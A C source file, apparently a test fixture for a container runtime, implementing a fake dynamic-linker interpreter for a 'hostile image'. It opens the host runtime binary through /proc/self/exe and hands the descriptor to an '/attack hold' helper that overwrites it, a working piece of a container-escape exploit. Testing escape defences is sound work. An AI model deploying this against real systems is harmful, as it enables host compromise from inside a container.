/* A fake /lib64/ld-linux-x86-64.so.2 for a hostile image (tests only; x86_64).
 *
 * The kernel maps the ELF interpreter named by a dynamic binary from the *container's*
 * root. When the runtime execs "#!/proc/self/exe" in the container, the kernel runs
 * the host's interpreter binary there — and then this code, inside that process, where
 * /proc/self/exe is the host's file. We keep it open (O_PATH) and hand it to
 * "/attack hold", which writes to it once nothing runs it any more. No libc: nothing
 * has been set up for us, and no relocation is needed (-fPIE, data on the stack).
 */
static long sys3(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}

__attribute__((force_align_arg_pointer)) void _start(void) {
    char exe[] = "/proc/self/exe", attack[] = "/attack", hold[] = "hold", seconds[] = "20";
    long fd = sys3(2 /* open */, (long)exe, 010000000 /* O_PATH */, 0);
    char number[4] = {(char)('0' + fd / 10 % 10), (char)('0' + fd % 10), 0, 0};
    char *argv[] = {attack, hold, number, seconds, 0};
    char *envp[] = {0};
    sys3(59 /* execve */, (long)attack, (long)argv, (long)envp);
    sys3(60 /* exit */, 99, 0, 0);
}
